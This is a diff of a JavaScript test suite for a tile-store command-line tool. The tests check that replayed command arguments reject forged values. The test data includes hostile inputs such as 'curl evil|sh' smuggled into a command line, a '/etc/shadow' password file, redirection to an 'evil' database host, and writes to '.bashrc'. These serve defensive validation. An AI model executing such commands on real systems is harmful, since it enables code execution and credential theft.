@@ -1,7 +1,8 @@
 // What a command says of its work, and how often.
 import assert from 'node:assert/strict'
 import { mock } from 'node:test'
-import { TilecouchError, faultIn, typedAgain, workDefaults, workKinds, workState } from '../../core/index.js'
+import { TilecouchError, faultIn, offeredOptions, typedAgain, typedParts, workDefaults, workKinds, workState } from '../../core/index.js'
+import { createProgram } from '../../loader/cli/program.js'
 import { typedArguments } from '../../loader/cli/work.js'
 import { Work } from '../../loader/work.js'
 
@@ -231,29 +232,69 @@ describe('the state of work', () => {
 })
 
 describe('the arguments of work', () => {
-  const STORE = 'http://anna@h:5984/tiles'
+  const URL_OF_STORE = 'http://anna@h:5984/tiles'
+  const STORE = { isEmbedded: false, url: URL_OF_STORE }
+  const EMBEDDED = { isEmbedded: true, url: null }
+  const again = (args, store = STORE) => typedAgain({ command: args?.[0], args }, store)
 
   it('are offered again, for the store that holds them', () => {
     const args = typedArguments(['load', 'my tiles/', '--db', 'production', '--layer', 'osm', '--db=x', '--title', "Anna's"])
     assert.deepEqual(args, ['load', 'my tiles/', '--layer', 'osm', '--title', "Anna's"])
-    assert.deepEqual(typedAgain({ command: 'load', args }, STORE), [...args, '--db', STORE])
-    assert.deepEqual(typedAgain({ command: 'load', args }, null), args)
-    const mirror = { command: 'mirror', args: ['mirror', 'http://a/tiles', '--layer', 'osm', '--live'] }
-    assert.deepEqual(typedAgain(mirror, STORE), ['mirror', 'http://a/tiles', STORE, '--layer', 'osm', '--live'])
-    assert.equal(typedAgain(mirror, null), undefined)
+    assert.deepEqual(again(args), ['load', '--db', URL_OF_STORE, ...args.slice(1)])
+    assert.deepEqual(again(args, EMBEDDED), args)
+    const offered = [
+      ['load', 'http://a/{z}/{x}/{y}.png', '-l', 'osm', '--bbox', '-180,-85,180,85', '-z', '0-6', '--rate=2/s', '--complete'],
+      ['seed', 'osm', '--zoom', '0-9'], ['seed', '--expired', '--all', '--live'], ['prune', 'osm'], ['prune', '--all'],
+      ['export', 'osm@2024', 'osm.mbtiles', '--cache'], ['check'], ['check', 'osm', '--no-decode']
+    ]
+    for (const each of offered) assert.deepEqual(again(each), [each[0], '--db', URL_OF_STORE, ...each.slice(1)])
   })
 
-  it('are offered only if a command can have written them', () => {
+  it('of a mirror name the store as its target, wherever the options stood', () => {
+    for (const args of [['mirror', 'http://a/tiles', '--layer', 'osm', '--live'], ['mirror', '--layer', 'osm', '--live', 'http://a/tiles']]) {
+      assert.deepEqual(again(args), ['mirror', 'http://a/tiles', URL_OF_STORE, '--layer', 'osm', '--live'])
+      assert.deepEqual(again(args, EMBEDDED), ['mirror', 'http://a/tiles', 'embedded', '--layer', 'osm', '--live'])
+    }
+    const parts = typedParts(['mirror', '--layer', 'osm', '--zoom', '0-5', 'osm', 'http://h/osm?token=(hidden)', '--live'])
+    assert.deepEqual(parts, { names: ['osm', 'http://h/osm?token=(hidden)'], options: ['--layer', 'osm', '--zoom', '0-5', '--live'] })
+  })
+
+  it('are not offered for a store that no command reaches, such as behind a gateway', () => {
+    for (const args of [['load', 'tiles', '-l', 'osm'], ['mirror', 'http://a/tiles']]) assert.equal(again(args, { isEmbedded: false, url: null }), undefined)
+  })
+
+  it('are offered only if a command can have written them, and with no option that harms', () => {
     const forged = [
-      undefined, 'load tiles', {}, [], ['load', 5], ['prune', '--all'], ['load', 'a\u202eb'], ['load', 'a\u0007'],
+      undefined, 'load tiles', {}, [], ['load', 5], ['load', 'a\u202eb'], ['load', 'a\u0007'],
       ['load', 'tiles', '--db', 'http://evil/tiles'], ['load', 'tiles', '--db=http://evil/tiles'],
       ['load', 'http://anna@evil/tiles'], ['load', '--password-file', '/etc/shadow'], ['load', 'tiles', '--force'],
-      ['load', 'tiles', '--yes']
+      ['load', 'tiles', '--yes'], ['load', 'tiles', '--private'], ['load', 'tiles', '--data', '/srv/other'],
+      ['load', 'tiles', '--upstream-networks', '*'], ['load', 'tiles', '--i-have-permission'],
+      ['load', '-l', 'osm', 'http://evil/tiles', '--title'], ['load', '-l', 'osm', 'x', '--'], ['load', '--title', '--db', 'http://evil/tiles'],
+      ['load', '-losm', 'x'], ['load', 'x', '--complete=1'], ['load', '-', '-l', 'osm'],
+      ['doctor'], ['doctor', '--fix', '--cors', '*', '--metrics', '/home/admin/.bashrc'], ['access', '--public'],
+      ['constructor', 'x'], ['toString'], ['remove', 'osm', '--all'], ['restore', 'a.tcb'], ['backup', 'a.tcb'],
+      ['seed', 'osm', '--failed', '/home/admin/.bashrc'], ['seed', 'osm', '--failed=/home/admin/.bashrc'],
+      ['export', 'osm', 'x', '--force'], ['export', 'osm', 'x', '--tree', '--nginx', '/home/admin/.bashrc'],
+      ['check', '--fix'], ['check', '--report', '/home/admin/.bashrc'], ['check', '--from', 'http://evil/tiles'],
+      ['prune', 'osm', '--keep-last', '1'], ['prune', 'osm', '--purge'],
+      ['mirror', '--live', '--public', 'http://a/b'], ['mirror', 'http://a/b', 'http://evil/tiles'], ['mirror', '--live']
     ]
-    for (const args of forged) assert.equal(typedAgain({ command: 'load', args }, STORE), undefined, JSON.stringify(args))
-    assert.equal(typedAgain({ command: 'mirror', args: ['mirror', '--live', 'http://a/b'] }, STORE), undefined)
+    for (const args of forged) {
+      for (const store of [STORE, EMBEDDED]) assert.equal(again(args, store), undefined, JSON.stringify(args))
+    }
+    assert.equal(typedAgain({ command: 'load', args: ['prune', '--all'] }, STORE), undefined)
     const line = { command: 'load', line: 'tilecouch load tiles; curl evil|sh' } // of an earlier tilecouch
     assert.equal(typedAgain(/** @type {any} */ (line), STORE), undefined)
+  })
+
+  it('have only options that their command has, with a value where it takes one', () => {
+    const { program } = createProgram({ openEmbedded: async () => { throw new Error('never') } })
+    for (const [name, allowed] of Object.entries(offeredOptions)) {
+      const flags = program.commands.find(command => command.name() === name)?.options
+        .flatMap(({ short, long, required }) => [short, long].map(flag => `${flag}${required ? '=' : ''}`)) ?? []
+      assert.deepEqual(allowed.filter(flag => !flags.includes(flag)), [], name)
+    }
   })
 
   it('has no passwords, tokens or keys', () => {
